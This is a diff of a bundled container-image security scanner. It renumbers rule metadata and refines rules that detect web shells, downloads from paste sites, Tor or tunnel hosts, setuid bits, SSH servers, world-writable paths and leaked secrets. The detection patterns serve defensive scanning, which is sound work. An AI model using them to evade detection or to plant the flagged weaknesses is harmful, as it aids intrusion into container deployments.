+    yield* inFiles(meta30, evidence, { isMeant: () => true, remedy: REMEDY3 });
   }
 };
 
 // src/rules/compromise/suspicious-url.ts
-var meta30 = {
+var meta31 = {
   id: "suspicious-url",
   title: "A download from nobody in particular",
   description: "The build or a start command fetches from a paste site, a bare address, a tunnel, Tor or dynamic DNS.",
@@ -53084,13 +53212,13 @@ var meta30 = {
   strict: "high"
 };
 var suspiciousUrl = {
-  meta: meta30,
+  meta: meta31,
   *check({ steps, cut }) {
     for (const step2 of steps) {
       if (step2.of !== "image" || !/^(?:RUN|ADD|CMD|ENTRYPOINT|HEALTHCHECK)$/.test(step2.keyword ?? "")) continue;
       const [first2] = suspiciousAddresses(step2.text);
       if (first2 === void 0) continue;
-      yield onStep(meta30, step2, {
+      yield onStep(meta31, step2, {
         message: `${step2.keyword} names ${cut(first2.url, 80)}, ${first2.what}: anyone can stand behind it tomorrow.`,
         remedy: "Fetch from a host that somebody answers for, by https and with a checksum, or keep the file in the repository.",
         identity: [first2.url]
@@ -53100,7 +53228,7 @@ var suspiciousUrl = {
 };
 
 // src/rules/compromise/web-shell.ts
-var meta31 = {
+var meta32 = {
   id: "web-shell",
   title: "A web shell",
   description: "A page of the image runs what a request sends.",
@@ -53111,19 +53239,26 @@ var meta31 = {
   references: [REFERENCES.attackWebShell],
   enabled: true
 };
-var PAGES = /\.(?:php[3-8]?|phtml|phar|inc|jspx?|jspf|war|aspx?|ashx|asmx|cshtml|py|cgi|htaccess|ico|gif|jpe?g|png|bmp|txt|log|html?)$/i;
+var DISGUISE = String.raw`ico|gif|jpe?g|png|bmp|txt|log|html?`;
+var PAGES = {
+  php: new RegExp(String.raw`\.(?:php[3-8]?|phtml|phar|inc|htaccess|${DISGUISE})$`, "i"),
+  jsp: new RegExp(String.raw`\.(?:jspx?|jspf|${DISGUISE})$`, "i"),
+  aspx: new RegExp(String.raw`\.(?:aspx?|ashx|asmx|cshtml|${DISGUISE})$`, "i"),
+  python: /\.(?:py|cgi|wsgi)$/i,
+  node: /\.[cm]?[jt]sx?$/i
+};
 var webShell = {
-  meta: meta31,
+  meta: meta32,
   *check(evidence) {
-    yield* inFiles(meta31, evidence, {
-      isMeant: ({ path: path19 }) => PAGES.test(path19),
+    yield* inFiles(meta32, evidence, {
+      isMeant: (_version, sign3, name2) => PAGES[/:(\w+)/.exec(sign3)?.[1] ?? ""]?.test(name2) === true,
       remedy: "Take the image out of use, and look at the page: layergate cat IMAGE PATH. If it is meant, let it run a fixed list of commands, never the words of a request."
     });
   }
 };
 
 // src/rules/image/build-tools-left.ts
-var meta32 = {
+var meta33 = {
   id: "build-tools-left",
   title: "Tools of the build stay in the image",
   description: "The final image holds compilers or headers that own layers brought: they serve the build, and whoever breaks in.",
@@ -53154,7 +53289,7 @@ function toolsOf({ filesystem, origin, steps }) {
   return found;
 }
 var buildToolsLeft = {
-  meta: meta32,
+  meta: meta33,
   *check(evidence) {
     for (const [layer, { tools, version: version2 }] of toolsOf(evidence)) {
       const step2 = evidence.steps.find((candidate) => candidate.of === "image" && candidate.layer === layer);
@@ -53170,9 +53305,9 @@ var buildToolsLeft = {
         remedy: "Build in a stage of its own and COPY --from the result, or remove them in the RUN that installs them (apt-get purge --auto-remove, apk del .build-deps).",
         identity: ["build-tools", step2?.keyword ?? ""]
       };
-      if (step2 !== void 0 && command2 !== void 0) yield onCommand(meta32, step2, command2, own2);
+      if (step2 !== void 0 && command2 !== void 0) yield onCommand(meta33, step2, command2, own2);
       else
-        yield placed(meta32, {
+        yield placed(meta33, {
           ...own2,
           location: { kind: "layer", layer, path: version2.path, line: null, offset: null },
           dockerfile: evidence.origin.layers[layer]?.lines ?? null,
@@ -53183,7 +53318,7 @@ var buildToolsLeft = {
 };
 
 // src/rules/image/content-not-inspected.ts
-var meta33 = {
+var meta34 = {
   id: "content-not-inspected",
   title: "Content that was not looked into",
   description: "An archive inside a layer is encrypted, damaged, of an unsupported form or too large to be opened. Its raw bytes were read all the same.",
@@ -53197,7 +53332,7 @@ var meta33 = {
 };
 var MAX_NAMED2 = 3;
 var contentNotInspected = {
-  meta: meta33,
+  meta: meta34,
   *check({ skipped, origin }) {
     const files = /* @__PURE__ */ new Map();
     for (const part3 of skipped) {
@@ -53213,9 +53348,9 @@ var contentNotInspected = {
       const more = inner.length > MAX_NAMED2 ? ` and ${inner.length - MAX_NAMED2} more` : "";
       const what = inner.length === 0 ? `was not looked into: ${first2.reason}` : `was not looked into wholly: ${named3.join(", ")}${more}`;
       const layer = first2.layer === null ? void 0 : origin.layers[first2.layer];
-      yield placed(meta33, {
+      yield placed(meta34, {
         message: `${path19} in ${first2.layer === null ? "the archive" : `layer ${first2.layer}`} ${what}.`,
-        remedy: meta33.remedy,
+        remedy: meta34.remedy,
         location: first2.layer === null ? { kind: "index", field: path19 } : { kind: "layer", layer: first2.layer, path: path19, line: null, offset: null },
         dockerfile: layer?.lines ?? null,
         origin: layer?.owner ?? "unknown",
@@ -53319,7 +53454,7 @@ var ANY_CACHE = new RegExp(CACHES.map(({ path: path19 }) => path19.source).join(
 var cacheOf = (path19) => ANY_CACHE.test(path19) ? CACHES.find((cache2) => cache2.path.test(path19)) ?? null : null;
 
 // src/rules/image/package-cache-left.ts
-var meta34 = {
+var meta35 = {
   id: "package-cache-left",
   title: "A package cache stays in the layer",
   description: "A layer holds lists or archives that a package manager keeps for the next time; nothing in a container asks for them.",
@@ -53350,7 +53485,7 @@ function leftIn({ layers, filesystem }, layer) {
 }
 var filler = ({ commands }, { by }) => commands.findLast(({ name: name2 }) => by.test(name2)) ?? null;
 var packageCacheLeft = {
-  meta: meta34,
+  meta: meta35,
   *check(evidence) {
     for (const step2 of evidence.steps) {
       if (step2.layer === null || step2.of !== "image" || step2.owner === "base") continue;
@@ -53362,7 +53497,7 @@ var packageCacheLeft = {
           identity: [cache2.name]
         };
         const command2 = filler(step2, cache2);
-        yield command2 === null ? onStep(meta34, step2, own2) : onCommand(meta34, step2, command2, own2);
+        yield command2 === null ? onStep(meta35, step2, own2) : onCommand(meta35, step2, command2, own2);
       }
     }
   }
@@ -53433,7 +53568,7 @@ function copyMode({ keyword, flags, text: text5 }) {
 }
 
 // src/rules/image/setuid-added.ts
-var meta35 = {
+var meta36 = {
   id: "setuid-added",
   title: "A program gets more rights than its user",
   description: "The build sets the setuid or setgid bit on a program, or gives it capabilities.",
@@ -53456,7 +53591,7 @@ function isTakenBack({ filesystem }, { value, kind }) {
   return version2 === null || (version2.content.entry.mode & 3072) === 0;
 }
 var setuidAdded = {
-  meta: meta35,
+  meta: meta36,
   *check(evidence) {
     const { steps, built } = evidence;
     const told = /* @__PURE__ */ new Set();
@@ -53464,7 +53599,7 @@ var setuidAdded = {
       if (step2.of !== "image") continue;
       const copy = copyMode(step2);
       if (copy !== null && (copy.mode.setuid || copy.mode.setgid))
-        yield onStep(meta35, step2, {
+        yield onStep(meta36, step2, {
           message: `${copy.written} sets the ${copy.mode.setuid ? "setuid" : "setgid"} bit on what is copied.`,
           remedy: "Leave the first digit out of the mode.",
           identity: [copy.written]
@@ -53477,7 +53612,7 @@ var setuidAdded = {
           const severity = change.mode.setuid ? "medium" : built === null ? "info" : "medium";
           const gone = built !== null && files.every((path19) => isTakenBack(built, path19));
           if (files.length === 0 || gone) continue;
-          yield onCommand(meta35, step2, command2, {
+          yield onCommand(meta36, step2, command2, {
             severity,
             message: `RUN sets the ${change.mode.setuid ? "setuid" : "setgid"} bit (${quote(evidence.cut, command2)}): whoever starts ${files[0]?.value} runs it with the rights of its ${change.mode.setuid ? "owner" : "group"}.`,
             remedy: "Leave the bit out. Where the program needs one right of root, give the container that capability when it starts (--cap-add), and forbid the rest with --security-opt=no-new-privileges.",
@@ -53490,7 +53625,7 @@ var setuidAdded = {
           if (given2 === void 0 || command2.args.some(({ value }) => value === "-r")) continue;
           const names2 = given2.toLowerCase().match(/cap_\w+|\ball\b/g) ?? [];
           const mild = names2.length > 0 && names2.every((name2) => MILD.has(name2));
-          yield onCommand(meta35, step2, command2, {
+          yield onCommand(meta36, step2, command2, {
             severity: mild ? "info" : "medium",
             message: `RUN gives ${words2.at(-1)} ${given2} (${quote(evidence.cut, command2)}): whoever starts it has ${mild ? "that right" : "rights of root"}.`,
             remedy: `Give the container the capability when it starts (--cap-add), or listen on a port above 1023.`,
@@ -53511,7 +53646,7 @@ var setuidAdded = {
         const { entry } = version2;
         if (entry.type !== "file" || (entry.mode & 3072) === 0 || (entry.mode & 73) === 0 || told.has(version2.path))
           continue;
-        yield placed(meta35, {
+        yield placed(meta36, {
           message: `${version2.path} has the ${(entry.mode & 2048) !== 0 ? "setuid" : "setgid"} bit (mode ${entry.mode.toString(8).padStart(4, "0")}, ${entry.uid === 0 ? "owned by root" : `uid ${entry.uid}`}) and is new in layer ${layer}.`,
           remedy: `Take the bit off in the same layer: COPY --chmod=755, or chmod u-s,g-s ${version2.path}.`,
           location: { kind: "layer", layer, path: version2.path, line: null, offset: null },
@@ -53525,7 +53660,7 @@ var setuidAdded = {
 };
 
 // src/rules/image/ssh-server.ts
-var meta36 = {
+var meta37 = {
   id: "ssh-server",
   title: "An SSH server in the image",
   description: "The image has an SSH server: installed, started, or its port opened.",
@@ -53543,12 +53678,12 @@ function permitsRoot(command2) {
   const { name: name2, args, writes, input: input2, fedBy } = command2;
   const targets = name2 === "sed" || name2 === "tee" ? optionsIn(command2).operands.map(({ value }) => value) : writes;
   if (!targets.some((path19) => /sshd_config/.test(path19))) return false;
-  const texts2 = [
+  const texts3 = [
     ...args.map(({ value }) => value),
     input2 ?? "",
     ...fedBy.flatMap((feeder) => [...feeder.args.map(({ value }) => value), feeder.input ?? ""])
   ];
-  return texts2.some(
+  return texts3.some(
     (text5) => /PermitRootLogin\s+yes/i.test(
       name2 === "sed" ? text5.replace(/^s(.)(?:(?!\1).)*\1((?:(?!\1).)*)\1.*$/s, "$2") : text5
     )
@@ -53558,7 +53693,7 @@ function* signs({
   steps
 }) {
   const of = steps.filter((step2) => step2.of === "image");
-  const onRun = (step2, command2) => (own2) => onCommand(meta36, step2, command2, own2);
+  const onRun = (step2, command2) => (own2) => onCommand(meta37, step2, command2, own2);
   for (const step2 of of)
     for (const command2 of step2.commands) {
       const name2 = installs(command2, isServer(command2));
@@ -53567,17 +53702,17 @@ function* signs({
     }
   for (const step2 of of) {
     if (step2.keyword === "EXPOSE" && step2.text.split(/\s+/).some((port) => /^22(?:\/tcp)?$/.test(port)))
-      yield { says: "opens port 22", draft: (own2) => onStep(meta36, step2, own2) };
+      yield { says: "opens port 22", draft: (own2) => onStep(meta37, step2, own2) };
     if (step2.keyword === "CMD" || step2.keyword === "ENTRYPOINT") {
       const words2 = jsonWords(step2.text);
       const { commands } = words2 === null ? parseScript(step2.text) : parseWords(words2);
       if (commands.some(startsServer))
-        yield { says: `starts it (${step2.keyword})`, draft: (own2) => onStep(meta36, step2, own2) };
+        yield { says: `starts it (${step2.keyword})`, draft: (own2) => onStep(meta37, step2, own2) };
     }
   }
 }
 var sshServer = {
-  meta: meta36,
+  meta: meta37,
   *check(evidence) {
     const found = [...signs(evidence)];
     const [first2] = found;
@@ -53604,7 +53739,7 @@ var sshServer = {
 };
 
 // src/rules/image/world-writable.ts
-var meta37 = {
+var meta38 = {
   id: "world-writable",
   title: "Anyone in the container may write it",
   description: "A file or directory is made writable for every user, or the umask lets new ones be.",
@@ -53633,19 +53768,19 @@ function concerned(evidence, step2, paths) {
   return left.length === 0 ? null : left.map(({ value }) => value);
 }
 var worldWritable = {
-  meta: meta37,
+  meta: meta38,
   *check(evidence) {
     for (const step2 of evidence.steps) {
       const copy = copyMode(step2);
       if (copy?.mode.worldWritable && !copy.mode.sticky && step2.of === "image")
-        yield onStep(meta37, step2, {
+        yield onStep(meta38, step2, {
           message: `${copy.written} lets every user of the container change what is copied to ${copy.paths[0]?.value ?? ""}.`,
           remedy: `Write --chmod=${copy.written.endsWith("666") ? "644" : "755"}, and --chown=USER where the container\u2019s user has to write there.`,
           identity: [step2.keyword ?? "", copy.paths[0]?.value ?? ""]
         });
       for (const command2 of step2.commands) {
         if (command2.name === "umask" && opensToAll(command2.args[0]?.value ?? "") && step2.of === "image") {
-          yield onCommand(meta37, step2, command2, {
+          yield onCommand(meta38, step2, command2, {
             message: `RUN sets the umask to ${command2.args[0]?.value}: every user may write what the commands behind it make.`,
             remedy: "Leave the umask at 022, and give single files to the user that needs them.",
             identity: ["umask"]
@@ -53656,7 +53791,7 @@ var worldWritable = {
         if (change === null || !change.mode.worldWritable || change.mode.sticky) continue;
         const paths = concerned(evidence, step2, change.paths);
         if (paths === null) continue;
-        yield onCommand(meta37, step2, command2, {
+        yield onCommand(meta38, step2, command2, {
           message: `RUN lets every user of the container change ${paths.slice(0, 3).join(", ")}${paths.length > 3 ? ` and ${paths.length - 3} more` : ""} (${quote(evidence.cut, command2)}): who breaks into one process can plant code for the next.`,
           remedy: `Give it to the user that needs it instead: chown USER ${paths[0]}${paths[0] === "/tmp" || paths[0] === "/var/tmp" ? "; a temporary directory takes chmod 1777" : ", or chmod g+w with a group of its own"}.`,
           identity: [change.written, ...paths]
@@ -53881,7 +54016,7 @@ Go github.com/hashicorp/consul/api: 5e6cb0767c9d2940
 Go github.com/hashicorp/consul: 01b8c5c1b5319ae4 0630b44c34915f77 15cd12b0cc647ea1 54ceac5cda228a4b 8a8a38794ec0f304 9d4791498d6a6bfc bf66ca50be2bea13 d9d94c9d65a72160 e62fe8b92deac019
 Go github.com/hashicorp/go-plugin: 2f28d4a5082fafbf
 Go github.com/hashicorp/terraform: 0033c15785bbbc66 035a2d1fd70fd98e 105d1af87ae0dce7 59fc97531785a66a a03a62a91b3c976b adfb6f86cd09d947 c048e49f37fed411 c7e602285ae9ebc8 d1eaab458d65a630 f5c47a890240d65b
-Go github.com/hashicorp/vault: 113709a648d55487 18fa4486ba74d84d 1b1e24a55142929e 1cb1c7f1fe3902f9 2234bef022ae5efa 2599119ca845e6fd 26b83a2e9db439ab 2b024dd4a4d34df4 2b8d6cca58987496 33acb5fc0a4d45ae 41c99859dd0a42a5 41fce0a58cc85723 449c8bfcf9625c0f 4bb96eb8544c2eee 4ce930cbeb6094ff 4ebc2429e57d76ba 4fd23fa79102dd59 5558784adc8a7c90 587da33715bf5113 6ae2afb62229cae5 6b41d4b7afc72a03 73596477c0611aee 7be580d4be825fdb 87b6d4ce79ce6771 8a8deb3954a669e0 9081a096962c79f6 a02cbbe6ccdab3b2 a206d8a47f752dc6 a6c28aab517cc5f3 b152c429ad05748e b2badfc80d67219c baa1cbfba4770c75 cdad93275df29c16 d3cd1504f7d95001 da1f34f4edb44883 e6ceab700c2462e2 eb3b96a19c8b5236 f31f80f4635b3536 f35b8cdd17715868 f47c41d1c0f4cc8e f661eb0b21e7825f
+Go github.com/hashicorp/vault: 113709a648d55487 18fa4486ba74d84d 1b1e24a55142929e 1cb1c7f1fe3902f9 2234bef022ae5efa 2599119ca845e6fd 26b83a2e9db439ab 2b024dd4a4d34df4 2b8d6cca58987496 33acb5fc0a4d45ae 41c99859dd0a42a5 41fce0a58cc85723 449c8bfcf9625c0f 4bb96eb8544c2eee 4ce930cbeb6094ff 4ebc2429e57d76ba 4fd23fa79102dd59 5558784adc8a7c90 587da33715bf5113 6ae2afb62229cae5 6b41d4b7afc72a03 73596477c0611aee 7be580d4be825fdb 87b6d4ce79ce6771 8a8deb3954a669e0 9081a096962c79f6 a02cbbe6ccdab3b2 a206d8a47f752dc6 a6c28aab517cc5f3 b152c429ad05748e b2badfc80d67219c baa1cbfba4770c75 cdad93275df29c16 d3cd1504f7d95001 da1f34f4edb44883 e6ceab700c2462e2 eb3b96a19c8b5236 f31f80f4635b3536 f35b8cdd17715868 f47c41d1c0f4cc8e f5ae8a4a49ce8918 f661eb0b21e7825f
 Go github.com/influxdata/influxdb: c2928545f443acad
 Go github.com/jackc/pgx/v5: 8dcfd9f093bc7a3b 9da47c47e8e03517 acb9e0d23df6c7f7
 Go github.com/kataras/iris/v12: 0244a07ef45e53d6 322e7102bc812b5d 74d9b7cd2f7cf4c7 750ca50c6c36b50d 856138d48d2d867f 9583859ed9e21495 ac8cdd2706f24588 bfd33d1ac053e683 d54aa79ffc237bd4 e07e62b16d53dbb1
@@ -55912,7 +56047,7 @@ var PARTS = new Set(Buffer.from(`\\
 function base64Texts(kernel, from, length) {
   const runs = [];
   kernel.base64Runs(length, (position, run2) => runs.push({ start: position, end: position + run2 }));
-  const texts2 = [];
+  const texts3 = [];
   const { window } = kernel;
   for (let i = 0; i < runs.length; i++) {
     const first2 = runs[i];
@@ -55943,13 +56078,13 @@ function base64Texts(kernel, from, length) {
       break;
     }
     if (end2 > from)
-      texts2.push({
+      texts3.push({
         position: first2.start,
         length: end2 - first2.start,
         bytes: pieces3.length === 1 ? pieces3[0] ?? window.subarray(0, 0) : Buffer.concat(pieces3)
       });
   }
-  return texts2;
+  return texts3;
 }
 
 // src/secrets/escapes.ts
@@ -56325,7 +56460,7 @@ var TRIED = 512;
 var MAX_TRIES = 2e3;
 var RUN = /[A-Za-z0-9+/_-]+/y;
 var ESCAPED = /\\(?:\/|u002[bBfF])|%2[bBfF]/y;
-var SIGN = new RegExp(PACKED_SIGNS.map(({ text: text5 }) => text5.replace("+", "\\+")).join("|"), "g");
+var SIGN2 = new RegExp(PACKED_SIGNS.map(({ text: text5 }) => text5.replace("+", "\\+")).join("|"), "g");
 var GAP = /(?:\\{1,4}(?:[rnt]|\r?\n)|[\s"'`,#>|*]|(?<=["'`\s])[+.&](?=["'`\s])){1,120}(?=[A-Za-z0-9+/])/y;
 function headerLength(bytes2) {
   const flags = bytes2[3] ?? 255;
@@ -56406,7 +56541,7 @@ function* textsAt(window, length, places, budget, isLast) {
 }
 function* unpacked2(joined2, budget) {
   let [tries, done] = [0, 0];
-  for (const { 0: text5, index } of joined2.matchAll(SIGN)) {
+  for (const { 0: text5, index } of joined2.matchAll(SIGN2)) {
     const { characters, bytes: skipped } = PACKED_SIGNS.find((sign3) => sign3.text === text5) ?? {
       characters: 0,
       bytes: 0
@@ -59059,7 +59194,7 @@ var CODE = [
 
 // src/secrets/detectors/data.ts
 var PLANETSCALE = { issuer: "PlanetScale", docs: "https://planetscale.com/docs/concepts/service-tokens" };
-var DATA = [
+var DATA2 = [
   token({
     id: "aiven-token",
     issuer: "Aiven",
@@ -66147,7 +66282,7 @@ var GROUPS = [
   { title: "Payment and currencies", detectors: PAYMENTS },
   { title: "Observability", detectors: OBSERVABILITY },
   { title: "Secrets managers and identity", detectors: MANAGERS },
-  { title: "Databases and data", detectors: DATA },
+  { title: "Databases and data", detectors: DATA2 },
   { title: "Office, design, content", detectors: WORK },
   { title: "JSON web tokens", detectors: JWTS },
   { title: "Private keys and keystores", detectors: KEYS2 },
@@ -66376,8 +66511,8 @@ import { createHash as createHash8 } from "node:crypto";
 import { inflateRawSync as inflateRawSync3 } from "node:zlib";
 
 // src/secrets/prefilter/prebuilt-table.ts
-var PREBUILT_KEY = "96e1cf472e04c6f55898b331a2dfe59565e478eaa07eb26c12227dc8f46ddfb5";
-var PREBUILT_TABLE = "vZ13nBvF+fCfLbrTFdtL77AYzhjMdRds46DzufeODQdiJe3dyaeTZO3qimnCdEihhA4JoRMgpNFrKAkJhISEhE6AhJAQWiCUhPZjdlerZ7Zod7j3894f9p2035lnZp555plnyj50xosv3Hjxz/Xzznr24DMuvOueKLfjY+9e9O5FAAAyAOz68sand80/t6ukliasq7nydYDrfp/77MQ7dwOQyPcXvvzFRxc+8/TlL90LJXHPt96vg+c+/vLLL78s858+9vg+b1y67bI7P5Rinz3x4KE1sEh494F37wEAEUQRPnjvxfOfmXPm5ZdeXDr8nDuvPQqg+fyPn/v4E/I1eWai1Dpz8YpziiDteVfd5dLzElxx2H2f3reVN78G+4cnP+D64aP85OjkyTzw0cnigQdOnmn/NMpwsBiNHuj7U39QffRA3v97aITJEPTDw/+vn1U8wLkC/qRXBBjiKn8PGN+OjzjJUziA94zvvssDvCG6037K+PZTK62DUQq/4ugnL6D+ni44U5obAdg1MkzJ8H3r/7uNnOd5VNk3eAA1coRNneFbrW3UN/va0jxipL3Y/vYIS7LLhH3sVG/nNxjfywLAAzZ5vcVMoGQuUbV0sKu1P7a/P87I6QorvwHj30kCwGOI3xAB6OJv86j5L+wa/Nz49kLPUq/kD4pMNCT+C78/B/A37gHR67lvi90eNReLAES4olG+W+xP9zT+/gPMRMSvrFT34QAO4QGu4jYaT+3tKVUBkc8b/w6L7yG57hRf92nH9fZvd9hPPGz8tpdDow632mmS8W8NDzBo5PB9R/ll0TunPwoAr3h89xdYF/Hva9+n5H7RlukHSLoTIpMjX7cvC9w3EHsofy1V6mc95H3BkuhHxnccev4uccj47CgBYIb9+VK+WQQYb/zezbnT+4krj3ZPSfsc7bGM+0zwL9dh3AvCLLtk3+YBfkjlI9r1+jtxtge/xlWjJznkPJ8DOFP0l2CST5ucWqWt3rekOtR+5n64zZb0HvFghxZPsepzhL+R+mY3bqH4e4ds1xDrRuyCwaznfyZCBED3lOb3HIDmU7YmEWBl5EPj9708vr+5Sp0cYuR2ngAwi/N+QvP8/LdCeI3u9+jp3zJkSor726WNWL+9YeR3sv25/NXYtl2VobQLySca1CZHea9D9KkcwPUCwN72MxtFgNP4N6y/3rafvcH4bVoV3fjcelay09piyzIxArA8cp6r7m51yLYT9fcPzZHTzpNDuR8DAJ08wEvW3393pPQr499neIBH+HEWd7TwnCHj7pFZPu1VxwOcaUh5qfH3mwLACnHwK77kevYkR138gCrdjqJSpZUeNKT9Mef/xDZRdtX1RY4yrjVK0RkBeJn65hr7rxZXupKd6jgRYKlnez6HaucoW8aHxCn859z1Hs//wSHX7R497Odinn/K+n0f4XPquz2t5/9JfbqLZ72kzbFYGAgcUa6wJH8YSXOU3SZzOICfG39tpdrpR9w6R7sVfFrpGgFgN+PZX9tPLLF+a0fSHYvyz/EAOxpdc7WvdiyOAIh2C5wjPiUC/I1oVNUSb+QBsjxAwfOpKV42VHjLzqWW2Eqq1Sb79JCbOICMo0b6jDzXUJ++zq010vuVcFrkcDvlNSLATgLA/ZW8DOpuPmLVx94e+d7MNYo/oT75ANVeZ5VaOcJ47mMOoNWjXgb5F0D3aIci+uzfPMDP7ZLtDy9bv8/mqrXGaMjJzj+M57YzRx3TRw7Q63+76icnAsQjD9mfn2n8m7DT2VDxoB398kf8v3zz+ZmrBK/w3xAPEw8IKNH1ps8pAHyBaqgD5Txqf97sUVby4M6RRT71d4Ln2P1YlRF9CRkr7Bx/Y6c7yWI+pudMwqtwtVGTMwBgfmQfMcFvdUm5HzfOQ74T0GepyFEWdZFLT6ZZOeetJ26y/v6N1YILIo/ZzBW0Jy4CfGA8vdlR4jpKxgMFgDer1MlfKJnO4n5sSC5xALt+5Tv9jvpW5wC+Z6UlUmlea5W3zqGR91X1hb4jAuxiPPFbg78BNojTqhIrjVx3MH5vFbq/Gu2O5keq9JIXvrJQb3m0z7XckQF961nhXX4/B7mKA/iXXSML7W9vdfuA9lP/9bENn9r1929xk+OZNY58e9HvbzvS2WKV4wBxO7FaeZ6x6nUK9dRMz9qeYqT5HeO7MyIAikCHbFYKPQ7uz8IS6/uuCAAvDn01c/+F8fevxbC+8NXcJiPfi22i3vj7cRhCeS+zv53gIftZ/AbhdeqTe0WAf3IAp4gAb9rp3ImeOM0hYZPx70/Rpzd+NQf5U2U2y19q/X6JuJPVcr9wpLHZbtEXjW/WRwB+ZeV+WcgamWqk8U0rpQONujjHluJhYU/uQN+R5Sr0+5twmK3rD6DP37XkON5IhRd2MP4/0hlJKOuXcIortw+4FcQXcWjv2dbf02Clj+7f5sij0f57ZyuPieZfVWrqOgB4WphtSNfAARxkPPspknG+MMdIt2h8M8f+/LtljzlyhgjwJ9I6HMD/LFkvZQhNHoBsyN/NWowAPG/k+qUwBZVy38h94g/gNRHgOEOagjgnAmCEk+F08UZUzh9j30OQhE9hkkOiHSjLdaE4UTiE+xN6Zp6vvANGPnsKAGkO4FBHK4hWDbwsNEYAVqFcmkPXyO48wExfy7qUA+C4ZWZM1bNtVxvs+UZpTrfK1OCZ3iyKf8kuS5Px9KnGt6+Ke9ifn4JS2bnqGPMvK+XzHRJu8dCMC63PnhQAMvbzu4gAH31lq54QAf7loO4wntIiVxv/Tw6pbcdxACPiighAEs40mPspMsUv9qjPiFXOGR41+CSZVzpyz1JpNFrfPoue6q1Sc6sQ/R3aR7Lzv9J65loRQIhsqzoG/9V4dlnVevmJbWFIUp9xAN8wPolzz1W1socIqlWq8SLA1Mhnjqc5VGbdldJNOLIXeUEE+N7/41WLtVxNFfkzhnSv2088bkl7kLmSgWQ3m+sB4Vv06GTUeybyBAfwI3iRB5heieCjNnnbIcNpDnv+kJXT93iABlszbjWe2tX6Lmr8f6KRUo/Nb+b/bkZ1bFn/af/2svFbRwTgCb4W5fi8Q5rlNrEfGSf5+yp+vkOvLhV/5lOT5+KYtyP9bY7SRj1Gsw+E0z3HuLsEgGN9Rr9hj8/7I20kAgNJJHlNBGA76qmF9rf7ViLWhtSXO/0xR1luIZ47iV9ZdfYP6/sbHNyrPMB447Nal2WawbdR9TpK5THVkeNeiP8l9xy3CLGXm16A6Ze69Pw3IsDNvnaxxXp+VyT5ZHgwMOb6VyPFPn4nfqmwl8vu/JA7xvpsjp1zbwRgJgewxZbwEPHP1m8nulJ4xJJgDxHgSLuF7zN+O914Wi73GptRHKl0iy1UuUvWX61UHbXi2rBTeI8DWG48Vy80U6l85KjhL7lduE32EzshGZ7kb0e6eQvF3QsXG8wV1qcvif2e9fwfipIM5tjI9kYuO/Jno29nVrXQN3AAR0cut5+p4QJXh6qMpU8Ir5Dosc8Tv7VymffVXCFt/b6M38d6+pvEV/bIfRff0etpn8//KwKc6aKGeYC77b/u4QHu5HcXAVZQefY4qHnc38Tw48nekQ/tp+cZEoy65DhQvJwDeN8jVc2qif2EHpt6R2Qd0x4XfyoA5EWALy32E6qEi+2/projxuDd/D+t7j9FAaKyMQyKRvfjvprFllxJGdnFqI/mRo0OG+UmGqEO8m9J3mYnWolXlrsoSOUveOvPGHGoH8ShTXvZQKL+I1nHpC7RxOsqknBWYlJlIN1RNnOsFOEM0fje+ICTTTvDWylXKkciD8nlD2OWpGJMNCYc0YpxEsxH+Uo4FtujqGTvLhGpsqDakysFE11pOJrrHBFgbrniOOMXs54ksC2mbFVcCeQY8HQziVEzZxkomWx5AXjuq0QJyvPQBmdIFSHlsvyGQpSiBh+jw49yTCq5NMrKmRRMMv48yy56zJZlx0q1WO0l1lvfcRxq+6hoPhIzEy+Zalf+MmYv3BmFM+pSLgGsMhOYVykzElyCaBSiJeBlM2kRtr+m8m3M4ejSjSNZ9c1HwdLdWOUfkiVRHQm3teHVw77lWbsY9Ug6hhq+JF9pgCVUpSXyj1iu3JKjCW2JZZmHrsrn5QxKfAm4sqqtsupAJvUsQylmK6koRuWY0WBGN4nNg3OiVoOWSuVMJOJMmBLMtSqXl7Hq1hiLrlAigpTVjaf7gFgWjzc+k40/S5ydQclUSzNrUuooeU4wdn7RjSMbyUgyXFku8ym43qWS1dlM0c4oV7pk7kEDVJukyHLMaR45kaDkCcVAo24LypXXOnBv77LMhwnFIFYCuDKG9imQXlNjblwgqW+jlCaGdNDMUy73cKNg/CnOFVZZBk6WAZvPeqy5RvNx9LqBISEHJQketCMb4LnEIEnyNhlkUooYNruVDlCyTaTRbCdxHiZhR6pHkI8lgEVUJUqWQyTWGUmWqCRixmY9wygaYm1DrREtSZY9kgC4WHkMi5U5q2/inlwqC16WyfTE5JKhvpSilU1c6auEDXMhITNtVp1s9ly73GR5wEq27FSQRLpOKRfHbuF9KyNk+WdHUxdLUIIoLzkU1aouM22iKTxqdUmGNrunWdUjWjbX6mnyZFuqUsVmzgMZOMsYGx1etLqDyOO+gqxk1BRMfHB/OhogAVEVnh7PpHI1iHZ9kMzL9UoE40vW0zFbVMeQIvNGupW9PhUF4CquhWT6AVy5Pvhy2wEHp5xhPEd3c0m2LTge1EuVxqs3jYcxAtq1EaMSIlshuDrDupcqTRSzvCpkt2IV+1+ep5W1yOqiXDmT7ezHohQh8oZ1LDm6aQlJHLPza3PVFESlitNFbKJl4dAYRtKRrHYx0o5Gy0ou2s5VtGKBK8kjR4lYFktGPmKOYXxJBg8bypeQzZMNu2iX1yhIqVRXwuNlud5lzhDH8Lo4s+hStPyIhIeaCrljeQjsMgdk3niovAW4vtKZibnjrBDRriCRkSUKbTG+otilKGfJVCcbvdUqgChVMo0RN8hsQqvDWK3IlZCTYHRzUjccspyyoSrREumYYsUIGCnx5qDq6F1RMwQjUyrOAQiVT7YjfMm23UD3NOCsIb1UkmMOR+UYo2O72s7uLNtMc1tuJkOkmLV9MuoieTRccpWhjf5xjGHbIbPLGyUV+XJK8xyOdNTuMGWFkA0/xfAtsBDlZuCupIobdYwBkyv9r4xHzZHZ1Pkrrew5a+TfUeTIuLH/SRVjEsVGhjdLzVkJgIhmBXiokuyWjLbFkKUnICea7WWrvN3fTD0WuZj9oVQe4mMTzTHMcrUq1qgkO7zSrzyyUtldjFTsT6xk/W+NJ9ZnYLqSotPFKAc47SqXy9bcVr6Y14axssKeRLtahmsqTbYVvOSe1ESdLnJ5xODo1I1pRJQ0VkmGyuBjKyxvW1uqh8gA25upiaZ6ifSIUsNbhYrJuIdZVo03k+OjosdWDvQ/GsMqacS+Mh6lEnIH+IqxNr7nLa/SCPiSsl1JzZPLmmJsOowY05HJMRBjZj2cSR6q48rNifqj6X6KtnQ1vKG/nF2VUsWTsD6XsB7zxkDE03rB05NdkZ5DU/tMzEpG9fLVtPZBFMGo+LjWHNUcdiVq7Jtszg2sPImLafbqLqsu0RgmycBJtM9Vsp2bEjGDotUJUSlJjosIzRut